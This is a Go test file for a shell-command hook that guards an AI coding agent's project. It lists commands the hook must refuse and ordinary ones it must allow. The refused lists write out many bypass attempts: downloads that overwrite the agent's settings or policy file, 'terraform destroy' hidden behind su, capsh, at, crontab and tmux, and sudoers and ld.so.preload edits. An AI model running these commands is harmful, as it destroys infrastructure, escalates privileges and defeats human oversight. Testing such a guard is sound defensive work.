package shell

import (
	"strings"
	"testing"
)

// Findings F2, F3, F5 and F7 of the hook30 attacker review (downloads
// that write under a name derived from the URL, /etc files that change
// what later commands run, programs that start a shell like su -c), and
// false refusals of ordinary lines, re-derived for issue 17.

// hook31bOpts are the protected files and directories as the hook lists
// them for a project /work/infra with the policy in /work: the agents'
// settings directories, the implicit files of every root (.envrc, .env),
// the home directory's startup files and tools' configuration, and the
// system files of F5.
var hook31bOpts = Options{
	Cwd:  "/work/infra",
	Home: "/home/agent",
	Protected: []string{"/work/planguard.hcl", "/work/allowed_signers", "/work/infra/.claude/settings.json",
		"/work/infra/.envrc", "/work/infra/.env", "/work/.envrc", "/work/.env", "/work/infra/.mcp.json",
		"/home/agent/.bashrc", "/home/agent/.profile", "/home/agent/.gitconfig", "/home/agent/.curlrc", "/home/agent/.wgetrc",
		"/home/agent/.terraformrc", "/etc/profile", "/etc/bash.bashrc", "/etc/environment", "/etc/ld.so.preload", "/etc/sudoers",
		"/etc/gitconfig"},
	ProtectedDirs: []string{"/work/infra/.claude", "/work/.claude", "/work/infra/.git", "/home/agent/.claude",
		"/etc/profile.d", "/etc/sudoers.d", "/etc/ld.so.conf.d"},
	Policy:    "/work/planguard.hcl",
	Planguard: []string{"/opt/planguard/bin/planguard"},
}

func hook31bRefused(t *testing.T, cmd string) {
	t.Helper()
	if r := Analyze(cmd, hook31bOpts); r.Allowed() {
		t.Errorf("allowed, want refused: %s", cmd)
	}
}

func hook31bAllowed(t *testing.T, cmd string) {
	t.Helper()
	if r := Analyze(cmd, hook31bOpts); !r.Allowed() {
		t.Errorf("refused, want allowed: %s\n%q", cmd, r.Refused)
	}
}

// F2/F3: the file a download writes is DIR + the URL's base name (wget,
// curl -O, aria2c -o, scp/rsync/sftp from another host); names the server,
// a list or a glob chooses, and recursive mirrors, only into /tmp.
func TestHook31bDownloadNames(t *testing.T) {
	for _, cmd := range []string{
		// wget: the URL's name in the working directory or -P.
		"cd .claude && wget http://h/settings.json",
		"cd /work && wget http://h/planguard.hcl",
		"cd .. && wget http://h/planguard.hcl",
		"wget -P .claude http://h/settings.json",
		"wget --directory-prefix=.claude http://h/settings.json",
		"wget --dir=.claude http://h/settings.json",
		"wget -P .. http://h/planguard.hcl",
		"wget -P /work http://h/planguard.hcl",
		"wget -N http://h/.envrc",
		"wget -nc http://h/.env",
		"wget -q --timestamping https://h/a/b/.mcp.json",
		"wget -P .. 'http://h/planguard%2ehcl'",
		"wget -P .. 'http://h/x/planguard.hcl#frag'",
		"wget -P .. 'http://h/x/planguard.hcl?'",
		"wget -P .. 'h/PLANGUARD.HCL'",
		"wget -P ~ http://h/.bashrc",
		"wget -P ~ http://h/.curlrc",
		"wget -P /etc/profile.d http://h/x.sh",
		"wget \"$BASE/settings.json\" -P .claude",
		"timeout 60 wget http://h/planguard.hcl -P ..",
		"sudo wget -P /etc http://h/sudoers",
		// wget: -O and the files it writes besides the download.
		"wget -O .claude/settings.json http://h/x",
		"wget -qO ../planguard.hcl http://h/x",
		"wget -o ../planguard.hcl http://h/x",
		"wget --save-cookies .envrc http://h/x",
		"wget -e output_document=../planguard.hcl http://h/x",
		"wget -e dir_prefix=.claude http://h/settings.json",
		"wget -e 'content_disposition = on' http://h/x",
		"wget -e reclevel=5 http://h/x",
		"wget --config=/tmp/rc http://h/x",
		"wget -e use_askpass=/usr/local/bin/terraform http://h/x",
		// wget: names it cannot compute, outside /tmp.
		"wget --content-disposition http://h/x",
		"wget --trust-server-names http://h/x",
		"wget -r http://h/",
		"wget -m http://h/",
		"wget -p http://h/",
		"wget -x http://h/a",
		"wget -r -P /tmp/x/../../work http://h/",
		"wget -r -P /work http://h/",
		"wget -i list.txt",
		"wget -i - <<<http://h/planguard.hcl",
		"wget \"$URL\"",
		"wget -r -P /tmp http://h/ -P .",
		// curl -O and --output-dir.
		"cd .claude && curl -O http://h/settings.json",
		"curl -O http://h/.envrc",
		"curl --remote-name http://h/.mcp.json",
		"curl -fsSLO http://h/.env",
		"curl --remote-name-all http://h/x http://h/.envrc",
		"curl --output-dir .claude -O http://h/settings.json",
		"curl --output-dir .. -O http://h/planguard.hcl",
		"curl -O http://h/planguard.hcl --output-dir ..",
		"curl --url http://h/settings.json -O --output-dir .claude",
		"curl -O 'http://h/settings.json?x=1' --output-dir .claude",
		"curl -O 'http://h/planguard%2Ehcl' --output-dir ..",
		"curl --output-dir /tmp -o /work/planguard.hcl http://h/x",
		"curl --output-dir .. -o planguard.hcl http://h/x",
		"curl -fsSLo .claude/settings.json http://h/x",
		// curl: names it cannot compute.
		"curl -o '#1' 'http://h/{planguard.hcl}'",
		"curl -o 'x/#1' 'http://h/[1-2]'",
		"curl -O 'http://h/{planguard.hcl,x}' --output-dir ..",
		"curl -J -O http://h/x",
		"curl -OJ http://h/x",
		"curl -O \"$URL\"",
		// curl: the other files it writes, and options from elsewhere.
		"curl -c ../planguard.hcl http://h/x",
		"curl -D .envrc http://h/x",
		"curl --trace-ascii ~/.bashrc http://h/x",
		"curl -w '%output{../planguard.hcl}x' http://h/x",
		"curl -K /tmp/cfg http://h/x",
		"curl --config /tmp/cfg http://h/x",
		"curl --variable '%HOME' --expand-output '{{HOME}}/.bashrc' http://h/x",
		// aria2c.
		"aria2c -d .claude -o settings.json http://h/x",
		"aria2c -d .. http://h/planguard.hcl",
		"aria2c http://h/x",
		"aria2c -i list.txt",
		"aria2c --on-download-complete=/tmp/x -d /tmp/dl http://h/x",
		"aria2c --conf-path=/tmp/c -d /tmp/dl http://h/x",
		"aria2c --di=.claude http://h/x",
		// Copies from another host.
		"scp host:settings.json .claude/",
		"scp host:planguard.hcl ..",
		"scp host:planguard.hcl /work/",
		"scp user@host:/srv/x/.envrc .",
		"scp scp://host/srv/.envrc .",
		"scp -r host:.claude .",
		"scp -r host:infra ..",
		"scp host:'*.hcl' ..",
		"rsync host:x .claude/",
		"rsync -a host:dir/ .claude/",
		"rsync host:planguard.hcl ..",
		"rsync -a host:dir/ ..",
		"sftp host:settings.json .claude/",
		"sftp host:planguard.hcl ..",
		"cd /work && sftp host:planguard.hcl",
		"echo 'get x .envrc' | sftp host",
		"sftp host <<< '!terraform destroy -auto-approve'",
		"lftp -c 'get http://h/planguard.hcl'",
		"lftp -e 'get settings.json; bye' h",
		"echo 'mirror x .' | lftp h",
		"aws s3 cp s3://b/planguard.hcl ..",
		"gsutil cp gs://b/planguard.hcl ..",
		"docker cp c:/x/planguard.hcl ..",
		"wget2 -P .. http://h/planguard.hcl",
		"wget2 http://h/.mcp.json",
		"http --download http://h/x",
		"http -d http://h/x -o ../planguard.hcl",
		"gh release download v1 -p '*'",
		"gh release download v1 -p .envrc",
		"gh release download v1 -p planguard.hcl -D ..",
		"gh run download 123",
		"rclone copy r:planguard.hcl ..",
	} {
		hook31bRefused(t, cmd)
	}
	for _, cmd := range []string{
		"wget -O /tmp/x.tgz http://h/x.tgz",
		"wget -qO- http://h/x | jq .",
		"wget -q http://h/x.tgz",
		"wget -P /tmp/dl http://h/planguard.hcl",
		"wget -e robots=off -P /tmp/dl http://h/x",
		"wget --content-disposition -P /tmp/dl http://h/x",
		"wget -r -np -P /tmp/mirror http://h/docs/",
		"wget -i list.txt -P /tmp/dl",
		"wget https://releases.hashicorp.com/terraform/1.9.0/terraform_1.9.0_linux_amd64.zip",
		"curl -fsSL http://h/x -o out.json",
		"curl -fsSL https://h/install.sh -o /tmp/install.sh",
		"curl http://h/x | jq .",
		"curl -sS -X POST -H 'Content-Type: application/json' -d '{\"a\":1}' http://h/api",
		"curl -O http://h/x.tgz",
		"curl -fsSLO https://h/v1/terraform_1.9.0_SHA256SUMS",
		"curl -OJ --output-dir /tmp/dl http://h/x",
		"curl -o '/tmp/dl/#1' 'http://h/{a,b}'",
		"curl -g -o out.json 'http://h/q?a[]=1'",
		"curl -s -o /dev/null -w '%{http_code}' http://h/health",
		"aria2c -d /tmp/dl http://h/x",
		"aria2c -d /tmp/dl -o x.iso http://h/x.iso",
		"scp host:x.tgz /tmp/",
		"scp x.tgz host:/tmp/",
		"scp host:x.tgz .",
		"scp -r host:proj /tmp/proj",
		"rsync -a host:dir/ /tmp/x",
		"rsync -av ./ host:/srv/app/",
		"sftp host:x.tgz",
		"sftp host",
		"lftp h",
		"http -d http://h/x -o /tmp/x",
		"http GET http://h/api",
		"gh release download v1 -p '*' -D /tmp/rel",
		"gh release download v1 -p x.tgz",
		"gh release download v1 -p x.tgz -O /tmp/x.tgz",
		"gh run download 123 -D /tmp/a",
		"gh pr create --title 'remove terraform destroy' --body x",
	} {
		hook31bAllowed(t, cmd)
	}
}

// F7: programs that run a shell command (like su -c) or start a shell on
// their standard input are read through to it, or refused.
func TestHook31bShellRunners(t *testing.T) {
	for _, cmd := range []string{
		"sg wheel -c 'terraform destroy -auto-approve'",
		"sg wheel 'terraform destroy -auto-approve'",
		"sg - wheel -c 'terraform destroy -auto-approve'",
		"sg wheel terraform destroy -auto-approve",
		"sg wheel -c 'echo x > ../planguard.hcl'",
		"echo 'terraform destroy -auto-approve' | sg wheel",
		"sg wheel -c \"$CMD\"",
		"newgrp wheel <<< 'terraform destroy -auto-approve'",
		"echo 'terraform destroy -auto-approve' | newgrp wheel",
		"newgrp - wheel <<'EOF'\nterraform destroy -auto-approve\nEOF",
		"cat /tmp/cmds | newgrp wheel",
		"capsh -- -c 'terraform destroy -auto-approve'",
		"capsh --caps=cap_net_raw+ep -- -c 'terraform destroy -auto-approve'",
		"capsh == -- -c 'terraform destroy -auto-approve'",
		"capsh --shell=/usr/local/bin/terraform -- destroy -auto-approve",
		"capsh \"$X\" -- -c true",
		"su root -- -c 'terraform destroy -auto-approve'",
		"su -s /bin/bash root -- -c 'terraform destroy -auto-approve'",
		"su -s /usr/local/bin/terraform root -- destroy -auto-approve",
		"su -s /usr/bin/python3 -c 'import os' root",
		"echo 'terraform destroy -auto-approve' | su",
		"echo 'terraform destroy -auto-approve' | su -",
		"runuser -u bob -- terraform destroy -auto-approve",
		"runuser bob -c 'terraform destroy -auto-approve'",
		"echo 'terraform destroy -auto-approve' | runuser -u root sh",
		"echo 'terraform destroy -auto-approve' | sudo -s",
		"echo 'terraform destroy -auto-approve' | sudo -i",
		"sudo -s <<< 'terraform destroy -auto-approve'",
		"echo 'terraform destroy -auto-approve' | doas -s",
		"echo 'terraform destroy -auto-approve' | script -q /dev/null",
		"script -q -c 'terraform destroy -auto-approve' /dev/null",
		"script -q .claude/settings.json",
		"script -O ../planguard.hcl -c 'make test'",
		"echo 'terraform destroy -auto-approve' | ssh localhost",
		"ssh localhost <<< 'terraform destroy -auto-approve'",
		"echo 'terraform destroy -auto-approve' | machinectl shell root@",
		"machinectl shell root@ /bin/sh -c 'terraform destroy -auto-approve'",
		"echo 'terraform destroy -auto-approve' | at now",
		"at now <<< 'terraform destroy -auto-approve'",
		"echo 'terraform destroy -auto-approve' | batch",
		"at -f /dev/stdin now <<< 'terraform destroy -auto-approve'",
		"at now -f <(echo 'terraform destroy -auto-approve')",
		"exec 3<<<'terraform destroy -auto-approve'; at -f /dev/fd/3 now",
		"echo '* * * * * terraform destroy -auto-approve' | crontab -",
		"crontab /tmp/cron.txt",
		"gdb -batch -ex 'shell terraform destroy -auto-approve'",
		"gdb --args terraform destroy -auto-approve",
		"echo 'shell terraform destroy -auto-approve' | gdb",
		"lldb -o 'platform shell terraform destroy -auto-approve'",
		"tmux new -d 'terraform destroy -auto-approve'",
		"tmux new-session -d -s x",
		"tmux send-keys -t x 'terraform destroy -auto-approve' Enter",
		"tmux -c 'terraform destroy -auto-approve'",
		"tmux ls \\; run-shell 'terraform destroy -auto-approve'",
		"tmux display-message -p '#(terraform destroy -auto-approve)'",
		"screen -S x -X stuff 'terraform destroy -auto-approve\\n'",
		"screen -dm sh -c 'terraform destroy -auto-approve'",
		"screen -dmS x terraform destroy -auto-approve",
		"xterm -e 'terraform destroy -auto-approve'",
		// The wrappers the brief lists, each reaching a refused command.
		"setpriv --reuid=1000 terraform destroy -auto-approve",
		"setpriv --reuid 1000 --regid 1000 --init-groups sh -c 'terraform destroy -auto-approve'",
		"chroot / terraform destroy -auto-approve",
		"chroot --userspec=1000 / sh -c 'terraform destroy -auto-approve'",
		"flock /tmp/l -c 'terraform destroy -auto-approve'",
		"flock -c 'terraform destroy -auto-approve' /tmp/l",
		"watch -n 1 'terraform destroy -auto-approve'",
		"timeout -s KILL 5 terraform destroy -auto-approve",
		"nice -n 5 sh -c 'terraform destroy -auto-approve'",
		"ionice -c 3 terraform destroy -auto-approve",
		"chrt -f 10 terraform destroy -auto-approve",
		"taskset -c 0 terraform destroy -auto-approve",
		"stdbuf -oL terraform destroy -auto-approve",
		"nohup sh -c 'terraform destroy -auto-approve' &",
		"setsid -f sh -c 'terraform destroy -auto-approve'",
		"ENV=/tmp/e sh -i </dev/null",
		"ENV=/tmp/e timeout 5 bash -i </dev/null",
	} {
		hook31bRefused(t, cmd)
	}
	for _, cmd := range []string{
		"sg wheel -c 'make test'",
		"sg docker -c 'docker ps'",
		"newgrp docker",
		"echo 'make test' | newgrp docker",
		"capsh --print",
		"capsh -- -c 'echo hi'",
		"su -c 'make test' bob",
		"su bob -c 'make test'",
		"runuser -u bob -- make test",
		"sudo -u bob make test",
		"echo x | sudo tee /tmp/x",
		"script -q -c 'make test' /tmp/log",
		"echo hi | ssh host cat",
		"ssh -N -L 8080:x:80 host",
		"ssh host uptime",
		"echo 'make test' | at now",
		"at -l",
		"at -f job.sh now",
		"atq",
		"crontab -l",
		"gdb ./prog core",
		"tmux ls",
		"tmux capture-pane -p -t x",
		"tmux kill-session -t x",
		"screen -ls",
		"timeout 5 make test",
		"nohup make test",
		"nice -n 10 go test ./...",
		"stdbuf -oL make test",
		"setsid make serve",
	} {
		hook31bAllowed(t, cmd)
	}
}

// F5: files under /etc that change how later commands run.
func TestHook31bSystemFiles(t *testing.T) {
	for _, cmd := range []string{
		"echo 'terraform destroy -auto-approve' | sudo tee /etc/profile.d/x.sh",
		"sudo sh -c 'echo /tmp/x.so > /etc/ld.so.preload'",
		"echo 'agent ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers",
		"sudo cp x /etc/sudoers.d/agent",
		"sudo cp x /etc/environment",
		"sudo sed -i 's/x/y/' /etc/bash.bashrc",
		"echo 'export PATH=/tmp/bin:$PATH' >> /etc/profile",
		"sudo install -m 644 x /etc/ld.so.conf.d/x.conf",
		"curl -o /etc/gitconfig http://h/x",
		"sudo wget -P /etc/profile.d http://h/x.sh",
		"cd /etc && sudo tee profile <<< x",
	} {
		hook31bRefused(t, cmd)
	}
	for _, cmd := range []string{
		"cat /etc/profile",
		"grep PATH /etc/environment",
		"ls /etc/profile.d",
		"echo x | sudo tee /etc/motd",
	} {
		hook31bAllowed(t, cmd)
	}
}

// False refusals of ordinary lines: bracket text in a quoted string is
// not a glob nor an array subscript, `cd ~` writes nothing, ENV for a
// program that is not a shell is its own business.
func TestHook31bOrdinaryLines(t *testing.T) {
	for _, cmd := range []string{
		`printf '[INFO] %s\n' done`,
		`printf "[%s] %s\n" "$(date +%T)" done`,
		`[ "$1" = "[default]" ]`,
		`test "$x" = "[a]"`,
		`[ "$x" != "[y]" ] && echo z`,
		`command printf '[x] %s\n' 1`,
		"cd ~",
		"cd ~ && ls",
		"cd ~/src && make",
		"pushd ~ && popd",
		"ENV=prod make test",
		"ENV=staging npm run build",
		`echo "[x]"`,
		`grep -n '[a-z]' main.tf`,
		`echo '[default]' > /tmp/x`,
		`awk '/\[default\]/{print}' config.ini`,
	} {
		hook31bAllowed(t, cmd)
	}
	for _, cmd := range []string{
		"printf -v 'a[$(id)]' %s 1",
		"printf -v 'a[x]' %s 1",
		"builtin printf -v 'a[x]' %s 1",
		"test -v 'a[x]'",
		"unset 'a[x]'",
		"cd ~ && echo x > .bashrc",
		"cd ~ && cp x .profile",
		"ENV='$(terraform destroy -auto-approve)' make test",
		"ENV=/dev/stdin sh -i",
		"export ENV=/tmp/e",
		"BASH_ENV=prod make test",
	} {
		hook31bRefused(t, cmd)
	}
}

// The refusal names what the download writes.
func TestHook31bDownloadReasons(t *testing.T) {
	for cmd, want := range map[string]string{
		"wget -P .. http://h/planguard.hcl":          "/work/planguard.hcl",
		"curl --output-dir .claude -O http://h/x.js": "/work/infra/.claude",
		"wget --content-disposition http://h/x":      "under /tmp",
		"curl -OJ http://h/x":                        "Content-Disposition",
		"scp host:.envrc .":                          "/work/infra/.envrc",
	} {
		r := Analyze(cmd, hook31bOpts)
		if r.Allowed() || !strings.Contains(strings.Join(r.Refused, "\n"), want) {
			t.Errorf("%s: %q, want a refusal naming %q", cmd, r.Refused, want)
		}
	}
}

// hook31bSeeds start FuzzAnalyze from the constructs of this review:
// downloads, programs that start a shell, bracket text.
var hook31bSeeds = []string{
	"cd .claude && wget http://h/settings.json",
	"wget -P .. -N 'http://h/planguard%2ehcl'",
	"curl --output-dir .. -O http://h/planguard.hcl",
	"curl -o '#1' 'http://h/{planguard.hcl}'",
	"aria2c -d .claude -o settings.json http://h/x",
	"scp -r host:infra ..",
	"sg wheel -c 'terraform destroy -auto-approve'",
	"echo 'terraform destroy -auto-approve' | newgrp wheel",
	"capsh -- -c 'terraform destroy -auto-approve'",
	"su root -- -c 'terraform destroy -auto-approve'",
	"printf '[INFO] %s\\n' done",
	`[ "$1" = "[default]" ]`,
	"ENV=prod make test",
}
